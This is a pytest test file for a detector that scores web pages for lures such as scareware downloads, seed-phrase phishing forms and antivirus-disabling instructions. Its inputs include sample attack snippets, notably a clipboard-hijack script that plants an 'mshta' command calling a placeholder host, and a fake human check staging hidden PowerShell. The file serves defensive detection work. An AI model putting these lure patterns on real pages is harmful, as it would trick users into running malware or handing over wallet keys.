import pytest

from app.engines.analyse.structure.lures import examine_lures

EXE = "<a href='/get/setup.exe'>Download</a>"
AUTO = "<meta http-equiv=refresh content='1;url=/get/setup.exe'>"
SEED_BOX = "<form><textarea name=phrase placeholder='Recovery phrase'></textarea></form>"
TWELVE = "<form>" + "<input type=text name=w>" * 12 + "</form>"


def scores(subject):
    return {signal.evidence.rule: signal.evidence.score for signal in examine_lures(subject)}


@pytest.mark.parametrize(
    "text",
    [
        "Your computer is infected with 3 viruses. Remove viruses now!",
        "Your Flash Player is out of date.",
        "You are using an older version of Chrome",
        "您的浏览器版本过低，请升级后访问。",
        "检测到您的手机存在木马病毒，请处理",
        "本片需安装后才能观看",
        "Download the player to continue watching",
    ],
)
def test_a_program_pushed_with_pressure_is_malware(make_subject, text):
    assert scores(make_subject(text, html=EXE))["executable_lure"] >= 0.8


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Version 4.2 is out: faster search, new themes. Installers are signed.", EXE),
        ("安装包 48 MB，更新内容：修复若干问题。", EXE),
        ("Your computer is infected? Read our guide.", "<a href='/guide.html'>Guide</a>"),
        ("Your Flash Player is out of date: why plug-ins died.", ""),
        ("My first game, made in 2012. Download the file below to play it.", EXE),
    ],
)
def test_ordinary_downloads_and_articles_stay_clean(make_subject, text, html):
    assert all(score < 0.5 for score in scores(make_subject(text, html=html)).values())


def test_a_vendors_own_urgency_needs_more_than_words(make_subject):
    text = "Critical security update 7.1 for our drivers is available."
    assert scores(make_subject(text, html=EXE))["executable_lure"] < 0.5
    assert scores(make_subject(text, html=AUTO))["executable_lure"] >= 0.5


def test_pressure_in_the_button_counts(make_subject):
    html = "<a href='x.apk'>检测到病毒，立即清除</a>"
    assert scores(make_subject("", html=html))["executable_lure"] >= 0.5


def test_a_download_that_starts_by_itself_is_worse(make_subject):
    text = "Your browser is out of date"
    clicked = scores(make_subject(text, html=EXE))["executable_lure"]
    automatic = scores(make_subject(text, html=AUTO))["executable_lure"]
    assert automatic > clicked
    assert scores(make_subject("Thank you for downloading", html=AUTO)) == {"automatic_download": 0.4}


def test_a_command_to_paste_is_malware_when_the_clipboard_is_armed(make_subject):
    text = "To verify, press Windows + R, then Ctrl + V and Enter."
    armed = "<script>navigator.clipboard.writeText('mshta http://x.example')</script>"
    assert scores(make_subject(text, html=armed))["run_dialog_lure"] >= 0.8


def test_a_page_about_shortcuts_stays_clean(make_subject):
    text = "Press Windows + R for the run dialog. Ctrl + V pastes."
    copy_button = "<script>navigator.clipboard.writeText(code)</script>"
    assert scores(make_subject(text, html=copy_button))["run_dialog_lure"] < 0.5


def test_settings_that_are_opened_by_a_command_and_filled_in_later_are_no_lure(make_subject):
    text = (
        "Press Windows + R and type the name of the dialog for environment variables. In the lower list, choose the "
        "variable with the folders of programs and edit it. A window with one line for each of them opens. Add a new "
        "line and paste the folder of the installation."
    )
    copy_button = "<script>navigator.clipboard.writeText(code)</script>"
    assert scores(make_subject(text, html=copy_button)) == {}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Restore your wallet", SEED_BOX),
        ("Enter your 12 word seed phrase to import the wallet", TWELVE),
        ("请输入助记词以恢复钱包", "<form><textarea></textarea></form>"),
    ],
)
def test_asking_for_a_wallet_phrase_is_fraud(make_subject, text, html):
    assert scores(make_subject(text, html=html))["wallet_phrase"] >= 0.8


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Never share your recovery phrase. Restore it only in the app.", "<input type=search name=q>"),
        ("请妥善保管助记词，不要输入到任何网站。", ""),
        ("Seed phrase explained: import and restore", "<input name=email><textarea name=comment></textarea>"),
        ("Contact us", "<input name=name><input type=email><textarea></textarea>"),
    ],
)
def test_teaching_about_phrases_stays_clean(make_subject, text, html):
    assert scores(make_subject(text, html=html)) == {}


def test_offsets_point_at_the_quoted_text(make_subject):
    text = "x" * 500 + " Your computer is infected " + "y" * 500
    (signal,) = examine_lures(make_subject(text, html=EXE))
    evidence = signal.evidence
    assert text[evidence.offset : evidence.offset + len(evidence.snippet)] == evidence.snippet
    assert "infected" in evidence.snippet


VENDOR = "Your version is out of date if it is older than 4.2. Checksums and release notes are on the next page."


def test_a_vendor_that_says_how_to_check_its_program_presses_nobody(make_subject):
    own = make_subject(VENDOR, title="Drivers and firmware", html=EXE)
    assert scores(own)["executable_lure"] < 0.5
    foreign = make_subject(VENDOR, title="Drivers", html=EXE.replace("/get/", "https://bad.example/get/"))
    assert scores(foreign)["executable_lure"] >= 0.8
    crying = make_subject(VENDOR, title="Your computer is infected", html=EXE)
    assert scores(crying)["executable_lure"] >= 0.8


ARCHIVE = "<a href='/dl/Loader_v4.rar'>Download</a>"


@pytest.mark.parametrize(
    "text",
    [
        "Disable Windows Defender and add the folder to exclusions, then run it. The archive password is 2026.",
        "安装前请先关闭杀毒软件，否则注册机会被误删。解压密码 123",
    ],
)
def test_to_turn_the_protection_off_for_a_program_is_malware(make_subject, text):
    assert scores(make_subject(text, html=ARCHIVE))["protection_off_lure"] >= 0.5


def test_a_client_of_an_office_that_is_reported_falsely_is_not_accused(make_subject):
    text = "安装报税客户端前请先退出360安全卫士等杀毒软件，以免误报拦截。"
    assert scores(make_subject(text, html=EXE))["protection_off_lure"] < 0.5


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("如驱动被误报，可暂时关闭实时保护，安装完成后请立即重新打开。", EXE),
        ("Turn off your antivirus if it reports a false positive, and turn it back on afterwards.", EXE),
        ("Disable Windows Defender and run it as administrator, they write. The archive password is 2026.", ""),
        ("Installer and portable version, 41 MB. Run as administrator.", EXE),
    ],
)
def test_who_explains_or_has_it_turned_on_again_stays_clean(make_subject, text, html):
    assert "protection_off_lure" not in scores(make_subject(text, html=html))


def test_a_script_that_computes_coins_is_malware(make_subject):
    html = "<script src='https://cdn.example/lib/coinhive.min.js'></script>"
    assert scores(make_subject("Loading", html=html))["coin_miner"] >= 0.5
    assert scores(make_subject("CoinHive was a miner: coinhive.min.js", html="<pre>coinhive.min.js</pre>")) == {}


def test_an_update_in_an_archive_is_a_program_too(make_subject):
    text = "您的浏览器版本过低，存在漏洞。"
    assert scores(make_subject(text, html="<a href='ChromeSetup_x64.zip'>立即更新</a>"))["executable_lure"] >= 0.5
    assert scores(make_subject(text, html="<a href='photos_2026.zip'>下载</a>")) == {}


def test_steps_that_a_page_shows_after_a_click_count_as_well(make_subject):
    html = (
        "<h2>Verify you are human</h2><div hidden><ol><li>Press Windows + R</li><li>Press CTRL + V</li></ol></div>"
        "<script>document.execCommand('copy');t='powershell -w hidden'</script>"
    )
    assert scores(make_subject("Verify you are human", html=html))["run_dialog_lure"] >= 0.9
    assert scores(make_subject("Verify you are human", html=html.replace("powershell -w hidden", "Hello"))) == {}
